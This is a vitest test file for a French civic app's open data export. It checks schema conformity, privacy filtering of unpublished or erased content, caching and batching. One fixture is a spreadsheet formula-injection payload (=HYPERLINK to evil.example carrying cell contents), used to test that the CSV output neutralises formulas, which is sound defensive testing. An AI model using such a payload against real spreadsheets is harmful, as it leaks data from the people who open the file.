import { randomUUID } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { asc, eq, inArray } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { Database, Db } from "@/db/client";
import { createAction, createCouncil, createMeeting } from "@/db/factories";
import {
  actionDeadlineChanges,
  contributionAnswers,
  contributions,
  contributionScans,
  contributionSupports,
  councilMemberships,
  councils,
  meetingAgendaItems,
  progressReports,
} from "@/db/schema";
import { demoContributionSeeds } from "@/db/seed/demo-contributions";
import { openDataFileNames, openDataFiles, type OpenDataFileName } from "@/lib/open-data/files";
import { tableSchemaOf, type TableSchema } from "@/lib/open-data/table-schema";
import { eraseUserByAdmin } from "@/server/account/erase-account";
import { createOpenDataStore, type OpenDataExport, type OpenDataStore } from "@/server/open-data/export-store";
import { writeOpenDataFile } from "@/server/open-data/write-file";
import { formerMemberOf } from "@/server/plan/author-name";
import { createCast, createUser, type Cast } from "../support/actors";
import { checkCsv, checkJson, checkSchema, unguarded, type Row } from "../support/table-schema-check";
import { createTestDatabase, type TestDatabase } from "../support/test-database";
import { insertItem, insertNeverPublicItems } from "./answers-helpers";

/*
 * The open data files (/donnees, issue 13): each file in CSV and JSON against its Table Schema,
 * both forms holding the same rows; nothing of a draft, pending, rejected or hidden item, of an
 * erased person, of a presenter's notes, nor any e-mail; stable identifiers; the files written
 * again when their data changes, and only then; batches that never lose or repeat a row.
 */
let testDb: TestDatabase;
let database: Database;
let db: Db;
let cast: Cast;
let dir: string;
const tag = randomUUID().slice(0, 8);
const FORMULA_TITLE = `=HYPERLINK("http://evil.example/?v="&A1;"Cliquez ${tag}")`;
const FORMER_NAME = `Josiane Effacée ${tag}`;
const FORMER_EMAIL = `josiane-${tag}@exemple.invalid`;
const SIGNER_NAME = `Élu Signataire ${tag}`;
const SIGNER_EMAIL = `elu-${tag}@exemple.invalid`;
const NOTES = `SECRET-notes du présentateur ${tag}`;
const fixture = {} as {
  ficheSlug: string;
  councilAName: string;
  formulaId: number;
  erasedAuthorItemId: number;
  paperItemId: number;
  answerId: number;
  secretIds: number[];
  meetingSlug: string;
};

beforeAll(async () => {
  testDb = await createTestDatabase("open_data");
  database = await testDb.openPrepared({ demo: true });
  db = database.db;
  cast = await createCast(db);
  dir = mkdtempSync(path.join(tmpdir(), "psc-open-data-test-"));

  const fiche = await createAction(db, {
    themeSlug: "gouvernance",
    status: "in_progress",
    timeframeLabel: "2018/2019",
    timeframeEndYear: 2019,
  });
  fixture.ficheSlug = fiche.slug;
  const [councilA] = await db.select({ name: councils.name }).from(councils).where(eq(councils.id, cast.councilA.id));
  fixture.councilAName = councilA!.name;
  const author = await createUser(db, { displayName: `Autrice Visible ${tag}` });
  const former = await createUser(db, { displayName: FORMER_NAME, email: FORMER_EMAIL });
  const signer = await createUser(db, { displayName: SIGNER_NAME, email: SIGNER_EMAIL, isOfficial: true, title: "adjoint au maire" });
  await db.insert(councilMemberships).values([
    { councilId: cast.councilA.id, userId: author.id },
    { councilId: cast.councilA.id, userId: former.id },
  ]);

  fixture.formulaId = await insertItem(db, cast.councilA.id, fiche.slug, {
    title: FORMULA_TITLE,
    body: `-2+3 : un texte qui commence comme une formule. VISIBLE-${tag}`,
    authorId: author.id,
  });
  fixture.erasedAuthorItemId = await insertItem(db, cast.councilA.id, fiche.slug, {
    kind: "feedback",
    body: "Un avis publié par une personne qui a ensuite supprimé son compte.",
    authorId: former.id,
  });
  // Received by mail and recorded by the City, with a scan that must never leave the staff's pages.
  fixture.paperItemId = await insertItem(db, cast.councilA.id, fiche.slug, { kind: "feedback", body: "Un avis reçu par courrier." });
  await db
    .update(contributions)
    .set({ receivedVia: "mail", receivedOn: "2026-10-15", writtenAuthorName: `Nom Écrit ${tag}` })
    .where(eq(contributions.id, fixture.paperItemId));
  await db.insert(contributionScans).values({
    contributionId: fixture.paperItemId,
    mediaType: "application/pdf",
    byteSize: 24,
    content: new Uint8Array(Buffer.from(`%PDF-1.4 SCAN-${tag}`)),
  });
  const [answer] = await db
    .insert(contributionAnswers)
    .values({
      contributionId: fixture.formulaId,
      state: "accepted",
      body: `La Ville retient la proposition. VISIBLE-${tag}`,
      authorId: signer.id,
      signatureName: SIGNER_NAME,
      signatureTitle: "adjoint au maire",
      clientRequestId: randomUUID(),
    })
    .returning({ id: contributionAnswers.id });
  fixture.answerId = answer!.id;
  await db
    .insert(contributionSupports)
    .values({ contributionId: fixture.formulaId, councilId: cast.councilB.id, userId: cast.userIds.memberOfB });

  // Never public: every other state, each with an answer and a support where it could have one.
  const planted = await insertNeverPublicItems(db, cast.councilA.id, fiche.slug, cast.councilB.id, { tag, authorId: author.id });
  fixture.secretIds = planted.ids;

  await db.insert(progressReports).values({
    actionId: fiche.id,
    title: `Point d'étape ${tag}`,
    body: "Les ateliers ont commencé.",
    reportedOn: "2026-10-15",
    status: "in_progress",
    progress: 40,
  });
  await db.insert(actionDeadlineChanges).values({
    actionId: fiche.id,
    previousLabel: "2018/2019",
    previousDeadline: "2019-12-31",
    newLabel: "2027",
    newDeadline: "2027-12-31",
    reason: `Les travaux ont pris du retard. ${tag}`,
  });
  const meeting = await createMeeting(db, { startsAt: new Date("2026-12-17T17:30:00Z") });
  fixture.meetingSlug = meeting.slug;
  await db.insert(meetingAgendaItems).values([
    { meetingId: meeting.id, position: 1, label: "Accueil", notes: NOTES },
    { meetingId: meeting.id, position: 2, label: `Bilan de la fiche ${tag}` },
  ]);

  // Both erased as the app erases (names and e-mails gone, answers signed « La Ville »).
  for (const userId of [former.id, signer.id]) {
    expect(await eraseUserByAdmin(db, cast.actors.admin, { userId, reason: "À sa demande.", understood: true })).toMatchObject({
      ok: true,
    });
  }
});
afterAll(async () => {
  rmSync(dir, { recursive: true, force: true });
  await testDb.drop();
});

interface Read {
  export: OpenDataExport;
  csv: string;
  json: string;
}

async function readAll(store: OpenDataStore): Promise<Record<OpenDataFileName, Read>> {
  const out = {} as Record<OpenDataFileName, Read>;
  for (const name of openDataFileNames) {
    const current = await store.current(db, name);
    out[name] = { export: current, csv: readFileSync(current.forms.csv.file, "utf8"), json: readFileSync(current.forms.json.file, "utf8") };
  }
  return out;
}

const schemas = Object.fromEntries(openDataFileNames.map((n) => [n, tableSchemaOf(n)])) as Record<OpenDataFileName, TableSchema>;

describe("open data files", () => {
  it("every file, in CSV and in JSON, follows its Table Schema, and both forms hold the same rows", async () => {
    const files = await readAll(createOpenDataStore(dir));
    const rowsOf: Partial<Record<OpenDataFileName, Row[]>> = {};
    for (const name of openDataFileNames) {
      const schema = schemas[name];
      expect(checkSchema(schema, schemas), `schéma ${name}`).toEqual([]);
      expect(schema.fields.map((f) => f.name)).toEqual(openDataFiles[name].fields.map((f) => f.name));
      const csv = checkCsv(schema, files[name].csv);
      const json = checkJson(schema, files[name].json);
      expect(csv.problems, `${name}.csv`).toEqual([]);
      expect(json.problems, `${name}.json`).toEqual([]);
      expect(csv.rows.map((r) => unguarded(schema, r))).toEqual(json.rows);
      expect(files[name].export.rows).toBe(json.rows.length);
      rowsOf[name] = json.rows;
    }
    // The demo data fills every file.
    for (const name of openDataFileNames) expect(rowsOf[name]!.length, name).toBeGreaterThan(0);
    // Foreign keys: every reference names a row of the other file.
    for (const name of openDataFileNames) {
      for (const fk of schemas[name].foreignKeys) {
        const target = new Set(rowsOf[fk.reference.resource as OpenDataFileName]!.map((r) => r[fk.reference.fields[0]!]));
        for (const row of rowsOf[name]!)
          expect(target.has(row[fk.fields[0]!]!), `${name}.${fk.fields[0]} = ${row[fk.fields[0]!]}`).toBe(true);
      }
    }
    const themes = new Set(rowsOf.thematiques!.map((r) => r.identifiant));
    for (const fiche of rowsOf.fiches!)
      for (const slug of String(fiche.thematiques ?? "")
        .split("|")
        .filter(Boolean))
        expect(themes.has(slug)).toBe(true);
  });

  it("holds only what the public pages show: published contributions, their answers and supports — no other state, reason, e-mail, erased name or presenter's notes", async () => {
    const files = await readAll(createOpenDataStore(dir));
    const everything = openDataFileNames.map((n) => files[n].csv + files[n].json).join("\n");
    expect(everything).toContain(`VISIBLE-${tag}`);
    const demoSecrets = demoContributionSeeds
      .filter((d) => d.status !== "published")
      .flatMap((d) => [d.body, d.title, d.rejectionReason, d.hiddenReason, ...(d.comments ?? []).map((c) => c.body)])
      .filter((t): t is string => Boolean(t));
    const demoReports = demoContributionSeeds.flatMap((d) => (d.reports ?? []).map((r) => r.reason));
    for (const secret of [
      "SECRET-",
      "Raison de refus de test",
      "Raison de masquage de test",
      FORMER_NAME,
      FORMER_EMAIL,
      SIGNER_NAME,
      SIGNER_EMAIL,
      NOTES,
      "@exemple.invalid",
      "@demo.aurillac.invalid",
      ...demoSecrets,
      ...demoReports,
    ])
      expect(everything.includes(secret), secret).toBe(false);

    // Exactly the published rows, compared with the database.
    const published = await db
      .select({ id: contributions.id })
      .from(contributions)
      .where(eq(contributions.status, "published"))
      .orderBy(asc(contributions.id));
    const exported = (JSON.parse(files.contributions.json) as Row[]).map((r) => r.identifiant);
    expect(exported).toEqual(published.map((r) => r.id));
    for (const id of fixture.secretIds) expect(exported).not.toContain(id);
    const publishedIds = published.map((r) => r.id);
    const answers = await db
      .select({ id: contributionAnswers.id })
      .from(contributionAnswers)
      .where(inArray(contributionAnswers.contributionId, publishedIds))
      .orderBy(asc(contributionAnswers.id));
    expect((JSON.parse(files.reponses.json) as Row[]).map((r) => r.identifiant)).toEqual(answers.map((r) => r.id));
    const supports = (JSON.parse(files.soutiens.json) as Row[]).map((r) => r.contribution);
    for (const id of supports) expect(publishedIds).toContain(id);
    expect(supports).toContain(fixture.formulaId);
    // Public fields only: no status, reason, e-mail nor id of a person among the columns.
    for (const name of openDataFileNames)
      for (const field of openDataFiles[name].fields)
        expect(field.name).not.toMatch(/statut_moderation|motif_refus|courriel|email|auteur_id|user/);
  });

  it("signs an erased author's contribution « Ancien membre du conseil … » and an erased official's answer « La Ville »", async () => {
    const files = await readAll(createOpenDataStore(dir));
    const rows = JSON.parse(files.contributions.json) as Row[];
    expect(rows.find((r) => r.identifiant === fixture.erasedAuthorItemId)!.auteur).toBe(formerMemberOf(fixture.councilAName));
    expect(rows.find((r) => r.identifiant === fixture.formulaId)!.auteur).toBe(`Autrice Visible ${tag}`);
    const answer = (JSON.parse(files.reponses.json) as Row[]).find((r) => r.identifiant === fixture.answerId)!;
    expect(answer).toMatchObject({ contribution: fixture.formulaId, etat: "retenue", signataire: "La Ville", fonction_signataire: null });
  });

  it("carries a paper contribution's provenance and its author's name as written, never its scan", async () => {
    const files = await readAll(createOpenDataStore(dir));
    const row = (JSON.parse(files.contributions.json) as Row[]).find((r) => r.identifiant === fixture.paperItemId);
    expect(row).toMatchObject({ auteur: `Nom Écrit ${tag}`, provenance: "courrier", date_reception: "2026-10-15" });
    const online = (JSON.parse(files.contributions.json) as Row[]).find((r) => r.identifiant === fixture.formulaId);
    expect(online).toMatchObject({ provenance: null, date_reception: null });
    for (const name of openDataFileNames) {
      expect(files[name].json).not.toContain(`SCAN-${tag}`);
      expect(files[name].csv).not.toContain(`SCAN-${tag}`);
    }
  });

  it("guards a formula in the CSV (an apostrophe first) and keeps the exact text in the JSON", async () => {
    const files = await readAll(createOpenDataStore(dir));
    expect(files.contributions.csv).toContain(`"'${FORMULA_TITLE.replaceAll('"', '""')}"`);
    expect(files.contributions.csv).toContain(`'-2+3 : un texte`);
    expect(files.contributions.csv).not.toMatch(/;"?=HYPERLINK/);
    const row = (JSON.parse(files.contributions.json) as Row[]).find((r) => r.identifiant === fixture.formulaId)!;
    expect(row).toMatchObject({
      titre: FORMULA_TITLE,
      nature: "proposition",
      position: null,
      conseil_identifiant: cast.councilA.slug,
      demonstration: false,
    });
  });

  it("writes each file's rows with their public values", async () => {
    const files = await readAll(createOpenDataStore(dir));
    const find = (name: OpenDataFileName, where: (r: Row) => boolean) => (JSON.parse(files[name].json) as Row[]).find(where);
    expect(find("thematiques", (r) => r.identifiant === "gouvernance")).toMatchObject({ numero: 5 });
    expect(find("fiches", (r) => r.identifiant === fixture.ficheSlug)).toMatchObject({
      thematiques: "gouvernance",
      statut: "en_cours",
      avancement: null,
      echeance_initiale: "2018/2019",
      date_limite_initiale: "2019-12-31",
      echeance_actuelle: "2018/2019",
      date_limite_actuelle: "2019-12-31",
    });
    // The fiche the source lists under two themes.
    expect(find("fiches", (r) => String(r.thematiques).includes("|"))).toBeDefined();
    expect(find("points-etape", (r) => r.titre === `Point d'étape ${tag}`)).toMatchObject({
      fiche: fixture.ficheSlug,
      date: "2026-10-15",
      statut: "en_cours",
      avancement: 40,
      corrige_le: null,
    });
    expect(find("changements-echeance", (r) => r.motif === `Les travaux ont pris du retard. ${tag}`)).toMatchObject({
      fiche: fixture.ficheSlug,
      echeance_precedente: "2018/2019",
      nouvelle_date_limite: "2027-12-31",
    });
    expect(find("reunions", (r) => r.identifiant === fixture.meetingSlug)).toMatchObject({
      debut: "2026-12-17T17:30:00Z",
      ordre_du_jour: `Accueil\nBilan de la fiche ${tag}`,
      compte_rendu: null,
      demonstration: false,
    });
    expect(find("soutiens", (r) => r.contribution === fixture.formulaId)).toMatchObject({ conseil_identifiant: cast.councilB.slug });
  });
});

describe("the files on disk", () => {
  it("serve the same bytes until the data changes: same identifiers and ETag from one export to the next, and from one process to the next", async () => {
    const store = createOpenDataStore(dir);
    const first = await store.current(db, "contributions");
    expect(await store.current(db, "contributions")).toBe(first);
    // Another process on the same folder (a restart): written again, the same bytes, the same date.
    const restarted = await createOpenDataStore(dir).current(db, "contributions");
    expect(restarted.producedAt.getTime()).toBeGreaterThanOrEqual(first.producedAt.getTime());
    expect(restarted.forms.csv).toMatchObject({ etag: first.forms.csv.etag, file: first.forms.csv.file });
    expect(restarted.forms.json.changedAt.getTime()).toBe(first.forms.json.changedAt.getTime());

    // Marked stale without a change of its rows: written again, same ETag, same « changed on ».
    store.markStale(["contributions"]);
    const again = await store.current(db, "contributions");
    expect(again).not.toBe(first);
    expect(again.generation).toBe(first.generation + 1);
    expect(again.forms.csv.etag).toBe(first.forms.csv.etag);
    expect(again.forms.csv.changedAt.getTime()).toBe(first.forms.csv.changedAt.getTime());

    const againIds = (JSON.parse(readFileSync(again.forms.json.file, "utf8")) as Row[]).map((r) => r.identifiant);

    // A publication: until the write marks it stale, the file on disk is still served (a cache)…
    const newId = await insertItem(db, cast.councilB.id, fixture.ficheSlug, { body: `Publiée après coup ${tag}` });
    expect(await store.current(db, "contributions")).toBe(again);
    // …then the next reader gets a new file, the old one is gone.
    store.markStale(["contributions"]);
    const changed = await store.current(db, "contributions");
    expect(changed.forms.csv.etag).not.toBe(again.forms.csv.etag);
    expect(changed.forms.json.changedAt.getTime()).toBeGreaterThan(again.forms.json.changedAt.getTime());
    expect(existsSync(again.forms.csv.file)).toBe(false);
    expect(readFileSync(changed.forms.json.file, "utf8")).toContain(`Publiée après coup ${tag}`);
    // The other rows keep their identifiers: the new file is the old one plus one row.
    const ids = (JSON.parse(readFileSync(changed.forms.json.file, "utf8")) as Row[]).map((r) => r.identifiant);
    expect(ids).toEqual([...againIds, newId]);
    expect(changed.rows).toBe(again.rows + 1);
  });

  it("a change marked by another app process on the same folder is seen by this one's next reader (two processes behind nginx)", async () => {
    const here = createOpenDataStore(dir);
    const there = createOpenDataStore(dir);
    const first = await here.current(db, "reunions");
    expect(await here.current(db, "reunions")).toBe(first);
    there.markStale(["reunions"]);
    await vi.waitFor(async () => expect(await here.current(db, "reunions")).not.toBe(first));
    const second = await here.current(db, "reunions");
    // Seen once: the next reader gets the same export again.
    expect(await here.current(db, "reunions")).toBe(second);
  });

  it("one writer for readers who come at once; a change during the writing writes the file again", async () => {
    const store = createOpenDataStore(dir);
    const [a, b] = await Promise.all([store.current(db, "reunions"), store.current(db, "reunions")]);
    expect(a).toBe(b);
    const during = store.current(db, "thematiques");
    store.markStale(["thematiques"]);
    expect((await during).generation).toBe(1);
  });

  it("writes in a private folder: one open to others is left for a new one of this process", async () => {
    const shared = path.join(dir, "ouvert-a-tous");
    mkdirSync(shared, { mode: 0o777 });
    chmodSync(shared, 0o777);
    const written = await createOpenDataStore(shared).current(db, "thematiques");
    expect(path.dirname(written.forms.csv.file)).not.toBe(shared);
    expect(path.basename(path.dirname(written.forms.csv.file))).toMatch(/^ouvert-a-tous-/);
    expect(statSync(path.dirname(written.forms.csv.file)).mode & 0o077).toBe(0);
    expect(readdirSync(shared)).toEqual([]);
  });

  it("streams a form from disk, the exact bytes of the file", async () => {
    const store = createOpenDataStore(dir);
    const opened = await store.open(db, "soutiens", "csv");
    const bytes = Buffer.from(await new Response(opened.body).arrayBuffer());
    expect(bytes.equals(readFileSync(opened.form.file))).toBe(true);
    expect(bytes.length).toBe(opened.form.bytes);
  });

  it("reads row by row as in one batch, without losing or repeating a row (keyset, composite for supports)", async () => {
    // Two supports on one proposal: the cursor's second column decides.
    const third = await createCouncil(db);
    await db.insert(contributionSupports).values({ contributionId: fixture.formulaId, councilId: third.id });
    const small = mkdtempSync(path.join(tmpdir(), "psc-open-data-batches-"));
    try {
      for (const name of ["contributions", "soutiens", "fiches", "thematiques", "reunions"] as const) {
        const [byOne, whole] = [await writeOpenDataFile(db, name, small, 1), await writeOpenDataFile(db, name, small)];
        expect(byOne.rows, name).toBeGreaterThan(1);
        expect(byOne.forms.csv.sha256, name).toBe(whole.forms.csv.sha256);
        expect(byOne.forms.json.sha256, name).toBe(whole.forms.json.sha256);
      }
    } finally {
      rmSync(small, { recursive: true, force: true });
    }
  });
});
